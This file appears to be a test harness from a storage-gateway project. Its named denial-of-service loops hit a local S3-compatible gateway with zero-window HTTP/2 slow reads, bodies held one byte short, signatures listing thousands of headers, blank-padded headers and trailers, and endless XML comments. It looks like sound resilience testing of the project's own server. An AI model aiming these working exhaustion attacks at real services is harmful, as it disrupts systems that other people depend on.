/**
 * Attacks on a gateway, each a loop that ends after some seconds: `deno run abuse_attacks.ts NAME PORT SECONDS`.
 * @module
 */

import { type ClientHttp2Session, connect } from "node:http2";
import {
  bytesOf,
  formatRequest,
  PAIR,
  presign,
  sign,
  type WireRequest,
} from "../http/wire_request.ts";

/** A port, and the moment (of `performance.now()`) at which the attack ends. */
type Aim = { readonly port: number; readonly end: number };

const HOST = ["host", "localhost"] as const;
const HEADER = 60_000;
const DOCUMENT = 160_000;

function request(given: Partial<WireRequest>): WireRequest {
  return { method: "GET", path: "/abuse/key", query: "", headers: [HOST], body: "", ...given };
}

function withLength({ headers, ...rest }: WireRequest): WireRequest {
  return { ...rest, headers: [...headers, ["content-length", String(rest.body.length)]] };
}

function inHeaders(given: Partial<WireRequest>, payloadHash?: string): string {
  const asked = withLength(request(given));
  const signing = payloadHash === undefined ? {} : { payloadHash };
  return formatRequest({ ...asked, headers: sign(asked, signing).headers });
}

function inQuery(given: Partial<WireRequest>, added: WireRequest["headers"] = []): string {
  const asked = request(given);
  const signed = { ...asked, query: presign(asked), headers: [...asked.headers, ...added] };
  return formatRequest(signed);
}

/** Sends requests over connections of their own, one after another in each of four lines. */
async function repeat({ port, end }: Aim, next: (i: number) => string): Promise<void> {
  let i = 0;
  await Promise.all(Array.from({ length: 4 }, async () => {
    while (performance.now() < end) {
      try {
        using socket = await Deno.connect({ hostname: "127.0.0.1", port });
        await writeAll(socket, bytesOf(next(i++)));
        const timer = setTimeout(() => socket.close(), 2000);
        await socket.read(new Uint8Array(1024));
        clearTimeout(timer);
      } catch {
        // The gateway closed the connection, or the timer did.
      }
    }
  }));
}

/** Writes all of a request; one write may take only a part of it. */
async function writeAll(socket: Deno.TcpConn, bytes: Uint8Array): Promise<void> {
  for (let at = 0; at < bytes.length;) at += await socket.write(bytes.subarray(at));
}

/**
 * Holds five HTTP/2 connections that take no bytes of any body, with 200 requests each. A request that the gateway ends is
 * sent again, and a connection that it closes is opened again.
 */
async function takeNothing({ port, end }: Aim, path: string): Promise<void> {
  const sessions = new Set<ClientHttp2Session>();
  const open = (): void => {
    const session = connect(`http://127.0.0.1:${port}`, { settings: { initialWindowSize: 0 } });
    sessions.add(session);
    const isOpen = (): boolean => sessions.has(session) && !session.closed && !session.destroyed;
    const ask = (): void => {
      const stream = session.request({ ":path": path, ":authority": "localhost" });
      stream.on("error", () => {});
      stream.on("close", () => setTimeout(() => isOpen() && ask(), 100));
      stream.end();
    };
    session.on("error", () => {});
    session.on("close", () => sessions.delete(session));
    for (let i = 0; i < 200; i++) ask();
  };
  while (performance.now() < end) {
    while (sessions.size < 5) open();
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  for (const session of sessions) session.destroy();
}

function presignedPath(path: string): string {
  return `${path}?${presign(request({ path }))}`;
}

/** Holds documents that lack their last byte. */
async function holdDocuments({ port, end }: Aim): Promise<void> {
  const body = `<Delete>${" ".repeat(8 * 1024 * 1024 - 100)}`;
  const text = inHeaders({ method: "POST", path: "/abuse", query: "delete=", body });
  const sockets: Deno.TcpConn[] = [];
  while (performance.now() < end) {
    if (sockets.length < 20) {
      const socket = await Deno.connect({ hostname: "127.0.0.1", port });
      sockets.push(socket);
      writeAll(socket, bytesOf(text.slice(0, -1))).catch(() => {});
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  for (const socket of sockets) socket.close();
}

/** The attacks by name. */
export const ATTACKS: Readonly<Record<string, (aim: Aim) => Promise<void>>> = {
  "a header that is signed thousands of times": (aim) => {
    const date = new Date().toISOString().replaceAll(/[-:]|\.\d+/g, "");
    const names = "a;".repeat(14_000);
    const text = formatRequest(request({
      headers: [
        HOST,
        ["a", "x".repeat(28_000)],
        ["x-amz-date", date],
        ["x-amz-content-sha256", "UNSIGNED-PAYLOAD"],
        [
          "authorization",
          `AWS4-HMAC-SHA256 Credential=${PAIR.accessKeyId}/${
            date.slice(0, 8)
          }/us-east-1/s3/aws4_request, SignedHeaders=${names}host, Signature=${"0".repeat(64)}`,
        ],
      ],
    }));
    return repeat(aim, () => text);
  },
  "lists that nobody reads": (aim) => takeNothing(aim, presignedPath("/abuse")),
  "objects that nobody reads": (aim) => takeNothing(aim, presignedPath("/abuse/large")),
  "a range of blanks": (aim) => {
    const text = inQuery({}, [["range", `bytes=${" ".repeat(HEADER)}x`]]);
    return repeat(aim, () => text);
  },
  "a trailer of blanks": (aim) => {
    const body = `0\r\nx-amz-checksum-crc32:${" ".repeat(15_000)}\rx\r\n\r\n`;
    const headers = [
      HOST,
      ["x-amz-decoded-content-length", "0"],
      ["x-amz-trailer", "x-amz-checksum-crc32"],
    ] as const;
    const form = "STREAMING-UNSIGNED-PAYLOAD-TRAILER";
    return repeat(aim, () => inHeaders({ method: "PUT", headers, body }, form));
  },
  "comments that never end": (aim) => {
    const body = `<Delete>${"<!--".repeat(DOCUMENT / 4)}`;
    return repeat(aim, () => inHeaders({ method: "POST", path: "/abuse", query: "delete=", body }));
  },
  "documents that lack a byte": holdDocuments,
  "blanks in an Authorization header": (aim) => {
    const authorization = `AWS${" ".repeat(HEADER)}x`;
    const text = formatRequest(request({ headers: [HOST, ["authorization", authorization]] }));
    return repeat(aim, () => text);
  },
  "uploads without credentials": (aim) => {
    const body = "x".repeat(8 * 1024 * 1024);
    const headers = [HOST, ["expect", "100-continue"], [
      "content-length",
      String(body.length),
    ]] as const;
    const text = formatRequest(request({ method: "PUT", headers, body }));
    return repeat(aim, () => text);
  },
  "Authorization headers to remember": (aim) =>
    repeat(aim, (i) => {
      const padding = [`x-amz-meta-${i}`, "x".repeat(30_000)] as const;
      return inHeaders({ method: "HEAD", headers: [HOST, padding] });
    }),
};

if (import.meta.main) {
  const [name = "", port, seconds] = Deno.args;
  const end = performance.now() + Number(seconds) * 1000;
  await ATTACKS[name]?.({ port: Number(port), end });
  Deno.exit(0);
}
